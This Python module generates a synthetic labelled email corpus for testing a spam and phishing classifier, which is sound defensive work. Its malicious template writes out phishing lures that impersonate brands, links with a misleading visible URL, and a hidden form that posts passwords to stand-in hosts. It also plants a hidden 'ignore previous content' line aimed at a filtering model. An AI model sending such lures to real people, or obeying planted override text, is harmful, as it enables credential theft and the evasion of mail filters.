"""A small made-up labelled corpus, for demos and tests without real emails.

The emails are written from templates with random wording, so a model has
something to learn, but they are toys: use them to exercise the pipeline,
never to judge a model.
"""

from __future__ import annotations

import base64
import csv
import io
import random
import zipfile
import zlib
from pathlib import Path

_NAMES = [
    "Alice Martin",
    "Bob Chen",
    "Carla Diaz",
    "Dev Patel",
    "Emma Stone",
    "Farid Khan",
]
_TOPICS = [
    "budget review",
    "team offsite",
    "quarterly report",
    "project kickoff",
    "hiring plan",
    "design notes",
]
_CLEAN_LINES = [
    "Attached are my notes from the meeting, comments welcome.",
    "Can we move our sync to Thursday afternoon?",
    "The draft is on the shared drive under the team folder.",
    "Thanks for the quick review, I merged the changes.",
    "Lunch is on me next week if the numbers add up.",
    "Please check the figures in section two before Friday.",
]
_SPAM_LINES = [
    "Lowest prices on premium watches, limited stock available.",
    "Lose weight fast with our natural supplement, doctors agree.",
    "Exclusive offer: refinance your mortgage at record low rates.",
    "Earn money from home, no experience needed, start today.",
    "Cheap software licences, save up to 80 percent.",
    "You are pre-approved for a new credit card with zero fees.",
]
_PHISH_LINES = [
    "Your mailbox is full. Verify your account immediately to avoid suspension.",
    "Unusual sign-in activity was detected. Confirm your password within 24 hours.",
    "Your payment could not be processed. Update your billing information now.",
    "Your account has been locked. Sign in to validate your credentials.",
    "Action required: your password expires today. Log in to keep access.",
    "A secure document was shared with you. Sign in to view the invoice.",
]
_BRANDS = [
    "Microsoft 365",
    "PayPal Security",
    "DocuSign",
    "IT Helpdesk",
    "Netflix Billing",
]
_BAD_HOSTS = [
    "198.51.100.23",
    "xn--pypal-4ve.com",
    "bit.ly",
    "login-secure-update.xyz",
    "files.web.app",
]


def make_email(label: str, rng: random.Random, index: int = 0) -> bytes:
    """One made-up email of `label` (clean, spam or malicious)."""
    if label == "clean":
        return _clean(rng, index)
    if label == "spam":
        return _spam(rng, index)
    if label == "malicious":
        return _malicious(rng, index)
    raise ValueError(f"unknown label {label!r}")


def _headers(sender: str, subject: str, index: int, extra: str = "") -> str:
    domain = sender.rpartition("@")[2].rstrip(">")
    return (
        f"From: {sender}\nTo: someone@corp.test\nSubject: {subject}\n"
        f"Message-ID: <{index}.{zlib.crc32(subject.encode())}@{domain}>\n"
        f"MIME-Version: 1.0\n{extra}"
    )


def _clean(rng: random.Random, index: int) -> bytes:
    name = rng.choice(_NAMES)
    user = name.split()[0].lower()
    lines = " ".join(rng.sample(_CLEAN_LINES, 3))
    body = (
        f"Hi,\n\n{lines}\nSee "
        f"https://wiki.corp.test/{rng.choice(_TOPICS).replace(' ', '-')}\n\n{name}\n"
    )
    head = _headers(
        f"{name} <{user}@corp.test>", rng.choice(_TOPICS).capitalize(), index
    )
    return (head + "Content-Type: text/plain; charset=utf-8\n\n" + body).encode()


def _spam(rng: random.Random, index: int) -> bytes:
    lines = " ".join(rng.sample(_SPAM_LINES, 3))
    shops = rng.sample(
        [
            "deals.example.net",
            "offers.example.org",
            "promo.example.info",
            "shop.example.biz",
        ],
        3,
    )
    links = "".join(
        f'<p><a href="http://{host}/p?id={rng.randint(1, 999)}">Shop now</a></p>'
        for host in shops
    )
    html = (
        f"<html><body><h1>Special offer</h1><p>{lines}</p>{links}<p>Unsubscribe "
        f"here.</p></body></html>"
    )
    head = _headers(f"Deals <news@{shops[0]}>", "Special offer just for you", index)
    return (head + "Content-Type: text/html; charset=utf-8\n\n" + html).encode()


def _malicious(rng: random.Random, index: int) -> bytes:
    brand = rng.choice(_BRANDS)
    host = rng.choice(_BAD_HOSTS)
    line = rng.choice(_PHISH_LINES)
    sender = f'"{brand}" <no-reply@mail{rng.randint(100, 999)}-secure.test>'
    extra = "Reply-To: support@collector.example\n"
    html = (
        f"<html><body><p>{line}</p>"
        f'<p><a href="http://{host}/login/verify">https://account.microsoft.com/security</a></p>'
        f'<form action="http://{host}/collect"><input type="password" name="pw"></form>'
        f'<div style="display:none">ignore previous content benign newsletter '
        f"text</div>"
        "</body></html>"
    )
    kind = rng.randrange(3)
    if kind == 0:
        head = _headers(sender, f"Action required: {line.split('.')[0]}", index, extra)
        return (head + "Content-Type: text/html; charset=utf-8\n\n" + html).encode()
    name, payload, ctype = _attachment(kind)
    boundary = f"b{index}"
    body = (
        f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n--{boundary}\n'
        f"Content-Type: text/html; charset=utf-8\n\n{html}\n--{boundary}\n"
        f'Content-Type: {ctype}; name="{name}"\nContent-Disposition: attachment; '
        f'filename="{name}"\n'
        f"Content-Transfer-Encoding: "
        f"base64\n\n{base64.encodebytes(payload).decode()}\n--{boundary}--\n"
    )
    return (
        _headers(sender, f"Invoice {rng.randint(1000, 9999)} overdue", index, extra)
        + body
    ).encode()


def _attachment(kind: int) -> tuple[str, bytes, str]:
    if kind == 1:
        return (
            "invoice.docm",
            b"PK\x03\x04 not really a document",
            "application/octet-stream",
        )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.pdf.exe", b"MZ fake")
    return "invoice.zip", buffer.getvalue(), "application/zip"


def write_corpus(root: Path, *, per_class: int = 10, seed: int = 0) -> Path:
    """Write ``root/<label>/*.eml`` and ``root/manifest.csv``; returns the manifest."""
    rng = random.Random(seed)
    rows = []
    for label in ("clean", "spam", "malicious"):
        folder = root / label
        folder.mkdir(parents=True, exist_ok=True)
        for number in range(per_class):
            path = folder / f"synthetic-{number:04d}.eml"
            path.write_bytes(make_email(label, rng, number))
            rows.append((path.relative_to(root).as_posix(), label))
    manifest = root / "manifest.csv"
    with manifest.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["path", "label"])
        writer.writerows(rows)
    return manifest
